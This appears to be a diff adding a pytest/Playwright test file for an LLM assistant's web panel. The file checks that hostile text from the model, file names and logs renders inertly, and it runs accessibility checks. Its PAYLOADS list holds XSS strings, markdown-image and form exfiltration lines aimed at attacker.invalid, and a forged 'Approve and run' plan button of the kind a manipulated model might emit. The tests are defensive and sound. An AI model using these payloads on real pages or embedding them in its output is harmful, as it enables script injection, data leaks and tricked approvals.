@@ -1,0 +1,191 @@
+"""What untrusted text may do in the panel: be read. And that everybody can read it: axe finds nothing."""
+
+from collections.abc import Iterator
+
+import pytest
+from playwright.sync_api import expect
+
+from tests.panel_kit import Open, Panel, Served, served
+
+PAYLOADS = [
+    "<script>window.hit=1</script>",
+    "<img src=x onerror=window.hit=1>",
+    "<svg onload=window.hit=1>",
+    "<iframe srcdoc='<script>parent.hit=1</script>'>",
+    "<a href=javascript:window.hit=1>x</a>",
+    "[x](javascript:window.hit=1)",
+    "[x](data:text/html,<script>window.hit=1</script>)",
+    "![x](https://attacker.invalid/leak.png?secret)",
+    "![x][r]\n\n[r]: https://attacker.invalid/leak.png",
+    "<img src=https://attacker.invalid/leak.png>",
+    "<link rel=stylesheet href=https://attacker.invalid/x.css>",
+    "<style>@import url(https://attacker.invalid/x.css)</style>",
+    "<meta http-equiv=refresh content='0;url=https://attacker.invalid/'>",
+    "<form action=https://attacker.invalid/><button autofocus>Approve and run</button></form>",
+    "<math><mtext></math><img src=x onerror=window.hit=1>",
+    "```html\n<script>window.hit=1</script>\n```",
+    "```<img src=x onerror=window.hit=1>\ncode\n```",
+    "| <img src=x onerror=window.hit=1> |\n|---|\n| <script>window.hit=1</script> |",
+    "\"'><img src=x onerror=window.hit=1>",
+    "{{constructor.constructor('window.hit=1')()}} ${window.hit=1}",
+    '<section class="plan"><button data-approve="simple">Approve and run</button></section>',
+]
+CORPUS = "\n\n".join(PAYLOADS)
+NAMES = ["<img src=x onerror=window.hit=1>.txt", '"><script>window.hit=1<script>.md', "[x](javascript:window.hit=1)"]
+SCRIPT = [
+    {"match": "", "schema": True, "reply": {"kind": "answer"}},
+    {"match": "corpus", "reply": CORPUS, "chunks": 200, "delay_s": 0.001},
+    {"match": "down", "error": 503},
+    {
+        "match": "",
+        "reply": "## Heading\n\ntext with `code` and a [link](https://example.org)\n\n```sh\nls -l # all\n```\n",
+    },
+]
+
+
+@pytest.fixture(scope="module")
+def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
+    """One server whose model, files and logs are hostile."""
+    folder = tmp_path_factory.mktemp("safety")
+    log = folder / "app.log"
+    log.write_text("\n".join(line for payload in PAYLOADS for line in payload.splitlines()) + "\n")
+    with served(folder, SCRIPT, {"LLMCORE_SYSTEM__LOGS": f'{{"app": "{log}"}}'}) as running:
+        for name in NAMES:
+            (running.roots / name.replace("/", "_")).write_text("x")
+        yield running
+
+
+@pytest.fixture
+def panel(open_panel: Open, server: Served) -> Panel:
+    """A tab that is logged in."""
+    return open_panel(server.url).log_in().ready()
+
+
+def harmless(panel: Panel) -> None:
+    """Nothing ran, nothing was built of the text, and (checked by the fixture) nothing was fetched."""
+    assert panel.page.evaluate("() => window.hit") is None
+    assert panel.page.locator("#app").locator("script, iframe, img, link, style, meta, form[action]").count() == 0
+    assert panel.page.locator(".markdown button:not(.quiet)").count() == 0
+    addresses = panel.page.evaluate("() => [...document.querySelectorAll('#app a[href]')].map((a) => a.protocol)")
+    assert set(addresses) <= {"http:", "https:", "mailto:"}
+
+
+def test_hostile_text_of_the_person_and_the_model_is_text(panel: Panel) -> None:
+    """Streamed, shown, and shown again from the history; a card drawn by the model is no card."""
+    turn = panel.ended(panel.ask(f"corpus of philosophy {CORPUS}"))
+    expect(turn.locator(".said")).to_contain_text("<img src=x onerror=window.hit=1>")
+    expect(turn.locator(".markdown").first).to_contain_text("<svg onload=window.hit=1>")
+    expect(turn.locator(".plan")).to_have_count(0)
+    harmless(panel)
+    panel.page.reload()
+    panel.ready()
+    expect(panel.page.locator(".markdown").first).to_contain_text("<svg onload=window.hit=1>")
+    harmless(panel)
+
+
+def test_hostile_file_names_and_log_lines_are_text(panel: Panel, server: Served) -> None:
+    """In tables, fields and texts."""
+    turn = panel.ended(panel.ask(f"list the content of {server.roots}"))
+    expect(turn).to_contain_text(NAMES[0])
+    harmless(panel)
+    turn = panel.ended(panel.ask("read the log app"))
+    expect(turn).to_contain_text("<svg onload=window.hit=1>")
+    harmless(panel)
+
+
+def test_hostile_params_are_shown_whole_on_the_card(panel: Panel, server: Served) -> None:
+    """As text, with hidden characters written out."""
+    folder = server.roots / "<img src=x onerror=window.hit=1>\u202egnp"
+    turn = panel.ended(panel.ask(f'create the folder "{folder}"'), "waiting")
+    expect(turn.locator(".plan .step")).to_contain_text("<img src=x onerror=window.hit=1>⟨U+202E⟩gnp")
+    harmless(panel)
+
+
+LIGHT = {"color_scheme": "light"}
+DARK = {"color_scheme": "dark"}
+PHONE = {"viewport": {"width": 360, "height": 740}, "has_touch": True}
+
+
+@pytest.mark.parametrize("look", [LIGHT, DARK, PHONE], ids=["light", "dark", "phone"])
+def test_axe_finds_nothing(open_panel: Open, server: Served, look: dict[str, object]) -> None:
+    """At the login, empty, with an answer, a table, a plan, an error, its editor, a dialog, and a phone's drawers."""
+    panel = open_panel(server.url, reduced_motion="reduce", **look)
+    panel.page.goto(server.url + "/")
+    expect(panel.page.get_by_label("User name")).to_be_visible()
+    assert panel.axe() == []
+    panel.log_in().ready()
+    expect(panel.page.locator(".empty")).to_be_visible()
+    assert panel.axe() == []
+    panel.ended(panel.ask("which processes eat the memory?"))
+    panel.ended(panel.ask("something about philosophy"))
+    panel.ended(panel.ask("the system of philosophy is down"), "error")
+    assert panel.axe() == []
+    file = server.roots / "motd.txt"
+    file.write_text("old")
+    card = panel.ended(panel.ask(f'write "new" to {file}'), "waiting").locator(".plan")
+    card.get_by_role("button", name="Edit").click()
+    assert panel.axe() == []
+    card.get_by_role("button", name="Back").click()
+    card.get_by_role("checkbox").check()
+    assert panel.axe() == []
+    panel.page.get_by_role("button", name="What can be done").click()
+    expect(panel.page.get_by_role("dialog")).to_be_visible()
+    assert panel.axe() == []
+    panel.page.keyboard.press("Escape")
+    card.get_by_role("button", name="Reject").click()
+    card.get_by_role("button", name="Reject the plan").click()
+    expect(card.locator(".chip.status")).to_have_text("Rejected")
+    if look is PHONE:
+        drawers(panel)
+
+
+def drawers(panel: Panel) -> None:
+    """Both side panels of a phone, and nothing wider than it."""
+    page = panel.page
+    for name in ("Conversations", "Overview"):
+        page.get_by_role("button", name=name).click()
+        expect(page.get_by_role("button", name="Close the side panel")).to_be_visible()
+        assert panel.axe() == []
+        page.mouse.click(355 if name == "Conversations" else 5, 400)
+        expect(page.get_by_role("button", name="Close the side panel")).to_have_count(0)
+    assert page.evaluate("() => document.documentElement.scrollWidth <= innerWidth")
+
+
+def test_targets_are_large_enough_for_fingers(open_panel: Open, server: Served) -> None:
+    """Every button and field of a phone is at least 40 pixels high."""
+    panel = open_panel(server.url, **PHONE).log_in().ready()
+    file = server.roots / "fingers.txt"
+    file.write_text("old")
+    panel.ended(panel.ask("which processes eat the memory?"))
+    panel.ended(panel.ask(f"delete the file {file}"), "waiting")
+    small = panel.page.evaluate(
+        """() => [...document.querySelectorAll("button, input:not([type=checkbox]), textarea, summary, label.confirm")]
+          .filter((e) => e.checkVisibility())
+          .filter((e) => e.getBoundingClientRect().height < 39.5 || e.getBoundingClientRect().width < 39.5)
+          .map((e) => e.outerHTML.slice(0, 120))"""
+    )
+    assert small == []
+
+
+def test_the_log_is_no_live_region_and_the_voice_is(panel: Panel) -> None:
+    """A screen reader hears the end of a reply, not every token."""
+    log = panel.page.get_by_role("log")
+    expect(log).to_have_attribute("aria-live", "off")
+    panel.ended(panel.ask("something about philosophy"))
+    expect(panel.page.get_by_role("status").filter(has_text="Reply finished.")).to_have_count(1)
+
+
+def test_alerts_and_suggestions_are_cards(panel: Panel) -> None:
+    """Typed events only; a suggestion can be made a plan or dismissed; axe finds nothing in them."""
+    card = """async ([kind, id, content]) => {
+      const { cards } = await import("/static/app/store.js");
+      cards.value = [{ id, kind, content }, ...cards.value];
+    }"""
+    alert = {"title": PAYLOADS[1], "severity": "critical", "text": PAYLOADS[4]}
+    panel.page.evaluate(card, ["llmcore.alert", "a1", alert])
+    panel.page.evaluate(card, ["llmcore.suggestion", "s1", {"suggestion_id": "s1", "title": "Rotate logs"}])
+    overview = panel.page.get_by_label("Overview")
+    expect(overview.locator(".card.alert")).to_contain_text(PAYLOADS[1])
+    expect(overview.locator(".card.suggestion").get_by_role("button", name="Make it a plan")).to_be_visible()
+    assert panel.axe() == []
+    harmless(panel)
